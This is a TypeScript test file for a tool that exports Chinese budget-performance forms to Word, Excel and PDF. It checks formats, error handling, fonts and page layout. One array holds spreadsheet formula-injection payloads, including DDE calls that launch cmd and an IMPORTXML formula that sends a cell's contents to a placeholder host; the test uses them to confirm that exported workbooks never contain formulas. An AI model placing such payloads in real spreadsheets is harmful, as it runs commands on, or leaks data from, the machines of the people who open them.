import { existsSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { strFromU8, unzipSync } from 'fflate';
import type { PrintedDocument } from '#documents/forms/printed-document';
import { FORM_NAMES, printForm } from '#documents/forms/official-forms';
import { readDocumentWithStream } from '#documents/reading/read-document';
import { readPdfPages } from '#documents/reading/pdf-pages';
import { writeDocument, type WrittenFormat } from '#documents/writing/write-document';
import { plainEnvironment, removeFolder, RunningCommand, temporaryFolder } from '../support/running-product.js';

let folder: string;
beforeEach(() => (folder = temporaryFolder()));
afterEach(() => removeFolder(folder));

const source = 'examples/disclosure-2026.docx';

const exportForm = async (...words: string[]): Promise<{ exit: number | string | null; json: ReturnType<typeof JSON.parse>; messages: string }> => {
  const command = new RunningCommand('yuji.mjs', ['export', ...words], { env: plainEnvironment({ DATA_DIR: folder }) });
  const exit = await command.ended;
  return { exit, json: command.stdout === '' ? null : JSON.parse(command.stdout), messages: command.stderr };
};

const MAGIC: Readonly<Record<WrittenFormat, string>> = { docx: 'PK', xlsx: 'PK', pdf: '%PDF-' };

const everyForm = FORM_NAMES.flatMap((form) => (Object.keys(MAGIC) as WrittenFormat[]).map((format) => [form, format] as const));

test.each(everyForm)('%s is written as .%s', async (form, format) => {
  const bytes = await writeDocument(printForm({ form, from: await readDocumentWithStream(source, readFileSync(source)) }), format);
  expect(Buffer.from(bytes.subarray(0, MAGIC[format].length)).toString('latin1')).toBe(MAGIC[format]);
});

test.each([['source', 'docx'], ['package', 'pdf'], ['monitoring', 'xlsx']])('export --form %s --format %s writes the file and says so', async (form, format) => {
  const out = join(folder, `form.${format}`);
  const { exit, json } = await exportForm(source, '--form', form, '--format', format, '--out', out);
  expect([exit, json]).toEqual([0, { form, format, out, bytes: readFileSync(out).length, projects: 12, residue: 0 }]);
  expect(readdirSync(folder).filter((name) => name.endsWith('.part'))).toEqual([]);
});

test('without a file the template is blank', async () => {
  const out = join(folder, 'blank.docx');
  expect(await exportForm('--form', 'self-evaluation', '--format', 'docx', '--out', out)).toMatchObject({ exit: 0, json: { projects: 0 } });
  expect(existsSync(out)).toBe(true);
});

test.each([
  [['--form', 'package', '--format', 'docx'], 1, 'form.needs-document'],
  [['no-such-file.docx', '--form', 'source', '--format', 'docx'], 1, 'document.no-such-file'],
  [['package.json', '--form', 'source', '--format', 'docx'], 1, 'document.extension-mismatch'],
])('%j is refused with a problem on standard output, and writes nothing', async (words, exit, code) => {
  const out = join(folder, 'refused.docx');
  expect(await exportForm(...words, '--out', out)).toMatchObject({ exit, json: { code, detail: expect.stringMatching(/。$/) } });
  expect(existsSync(out)).toBe(false);
});

test('a folder that is not there is answered as a thing that cannot be done, and a file that was there stays', async () => {
  expect(await exportForm(source, '--form', 'source', '--format', 'docx', '--out', join(folder, 'missing', 'form.docx'))).toMatchObject({ exit: 3, json: { code: 'form.cannot-write' } });
  const kept = join(folder, 'kept.docx');
  writeFileSync(kept, 'what was there');
  await exportForm('no-such-file.docx', '--form', 'source', '--format', 'docx', '--out', kept);
  expect(readFileSync(kept, 'utf8')).toBe('what was there');
});

test.each([[[]], [[source]], [[source, '--form', 'poem', '--format', 'docx', '--out', 'x']], [[source, '--form', 'source', '--format', 'rtf', '--out', 'x']], [[source, '--form', 'source', '--format', 'pdf']], [[source, source, '--form', 'source', '--format', 'pdf', '--out', 'x']]])('%j is wrong usage', async (words) => {
  expect(await exportForm(...words)).toMatchObject({ exit: 2, json: null, messages: expect.stringContaining('npm run yuji') });
});

/** What a spreadsheet might take for a formula, a link or a command. */
const payloads = [
  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://example.invalid","x")', '=WEBSERVICE("http://example.invalid")', '=DDE("cmd";"/C calc";"x")', '+1+1', '+cmd|\'/C calc\'!A1', '-1+1', '-2+3+cmd|\'/C calc\'!D2',
  '@SUM(1+1)', '@cmd', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '"=1+1"', '＝1+1', '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")', '=1+1\n=2+2', '%0A=1+1', ';=1+1', ',=1+1', '\'=1+1', '=\u00001+1', '-95%',
];

const documentOf = (texts: readonly string[]): PrintedDocument => ({
  title: '=1+1', sections: [{ name: '=1+1', orientation: 'portrait', startsPage: true, blocks: [
    ...texts.map((text) => ({ kind: 'line' as const, text, style: 'body' as const })),
    { kind: 'table', columns: [1, 1], rows: texts.map((text) => ({ isHead: false, cells: [{ text, span: 1, continues: false, isLabel: true, align: 'left' as const }, { text, span: 1, continues: false, isLabel: false, align: 'left' as const }] })) },
  ] }],
});

test('no text of a user becomes a formula in a workbook (I4)', async () => {
  const parts = unzipSync(await writeDocument(documentOf(payloads), 'xlsx'));
  const sheet = strFromU8(parts['xl/worksheets/sheet1.xml'] ?? new Uint8Array());
  expect(sheet).not.toMatch(/<f[ >/]/);
  const cells = [...sheet.matchAll(/<c [^>]*?(?:\/>|>.*?<\/c>)/gs)].map(([cell]) => cell).filter((cell) => cell.includes('<v>'));
  expect(cells).toHaveLength(payloads.length * 3);
  expect(cells.filter((cell) => !cell.includes('t="s"'))).toEqual([]);
  // Format @ is 文本: what is text stays text when a person edits it.
  const styles = strFromU8(parts['xl/styles.xml'] ?? new Uint8Array());
  const text = /<numFmt numFmtId="(\d+)" formatCode="@"/.exec(styles)?.[1] ?? '49';
  const formats = [...(/<cellXfs.*?<\/cellXfs>/s.exec(styles)?.[0] ?? '').matchAll(/<xf [^>]*numFmtId="(\d+)"/g)].map((match) => match[1]);
  expect(new Set(cells.map((cell) => formats[Number(/ s="(\d+)"/.exec(cell)?.[1])]))).toEqual(new Set([text]));
});

test.each(['docx', 'xlsx', 'pdf'] as const)('control characters and halves of characters do not break a .%s', async (format) => {
  const bytes = await writeDocument(documentOf(['a\u0000b\u0008c\ud800d\uffff', '<&>"\'', '𠮷野家 ㈱ ☑']), format);
  expect(bytes.length).toBeGreaterThan(1000);
  // eslint-disable-next-line no-control-regex -- control characters are what must not be there
  if (format !== 'pdf') for (const part of Object.values(unzipSync(bytes))) expect(strFromU8(part)).not.toMatch(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
});

test('a text that no cell of a workbook holds is refused, not cut', async () => {
  await expect(writeDocument(documentOf(['字'.repeat(32_768)]), 'xlsx')).rejects.toMatchObject({ code: 'form.cell-too-long' });
});

test('sheets of equal or forbidden names get names of their own', async () => {
  const section = (name: string) => ({ name, orientation: 'portrait' as const, startsPage: true, blocks: [{ kind: 'line' as const, text: name, style: 'body' as const }] });
  const parts = unzipSync(await writeDocument({ title: '', sections: ['甲/乙', '甲:乙', '', '字'.repeat(40), '字'.repeat(41)].map(section) }, 'xlsx'));
  const names = [...strFromU8(parts['xl/workbook.xml'] ?? new Uint8Array()).matchAll(/<sheet name="([^"]*)"/g)].map((match) => match[1] ?? '');
  expect(names).toHaveLength(5);
  expect(new Set(names).size).toBe(5);
  expect(names.filter((name) => name.length > 31 || /[[\]:*?/\\]/.test(name))).toEqual([]);
});

test('a PDF brings its Chinese fonts along', async () => {
  const pdf = Buffer.from(await writeDocument(documentOf(['预算绩效']), 'pdf')).toString('latin1');
  expect([...pdf.matchAll(/\/FontFile2 /g)].length).toBeGreaterThanOrEqual(2);
  expect(pdf).toMatch(/\/BaseFont \/[A-Z+]*NotoSerifSC/);
});

test('a merged cell that the end of a page cuts is closed there, and opened again on the next page', async () => {
  const cell = (text: string, continues = false) => ({ text, span: 1, continues, isLabel: false, align: 'left' as const });
  const head = { isHead: true, cells: [cell('级别'), cell('内容')] };
  const rowsWith = (isHeaded: boolean, count: number) => [...(isHeaded ? [head] : []), ...Array.from({ length: count }, (_row, at) => ({ isHead: false, cells: [cell('产出指标', at > 0), cell(`第${at + 1}行`)] }))];
  // Of 33 rows below a head, or 34 without one, the last stands alone on the second page.
  for (const [isHeaded, count, pageCount] of [[true, 90, 3], [false, 90, 3], [true, 33, 2], [false, 34, 2]] as const) {
    const pages = await readPdfPages(await writeDocument({ title: '表', sections: [{ name: '表', orientation: 'portrait', startsPage: true, blocks: [{ kind: 'table', columns: [1, 1], rows: rowsWith(isHeaded, count) }] }] }, 'pdf'));
    expect(pages).toHaveLength(pageCount);
    for (const { rulings } of pages) {
      const across = rulings.filter(({ y1, y2 }) => Math.abs(y1 - y2) < 0.1);
      const spanAt = (y: number): number => across.filter((each) => Math.abs(each.y1 - y) < 0.6).reduce((sum, { x1, x2 }) => sum + Math.abs(x2 - x1), 0);
      const heights = across.map(({ y1 }) => y1);
      const width = Math.max(...heights.map(spanAt));
      expect(width).toBeGreaterThan(400);
      for (const y of [Math.min(...heights), Math.max(...heights)]) expect(spanAt(y)).toBeCloseTo(width, 0);
    }
  }
});

test('a Word file names 宋体 and 黑体, repeats heads, cuts no row, and leaves 2.5 cm for binding', async () => {
  const printed = printForm({ form: 'goal-application', from: await readDocumentWithStream(source, readFileSync(source)) });
  const xml = strFromU8(unzipSync(await writeDocument(printed, 'docx'))['word/document.xml'] ?? new Uint8Array());
  const rows = xml.split('<w:tr>').length - 1;
  expect(xml.split('<w:cantSplit/>').length - 1).toBe(rows);
  expect(xml.split('<w:tblHeader/>').length - 1).toBe(12);
  expect(xml).toContain('w:eastAsia="宋体"');
  expect(xml).toContain('w:eastAsia="黑体"');
  expect(xml).toMatch(/<w:pgSz w:w="11906" w:h="16838"/);
  expect(xml).toMatch(/w:left="1417"/);
  expect(xml).toMatch(/<w:tblLayout w:type="fixed"\/>/);
});
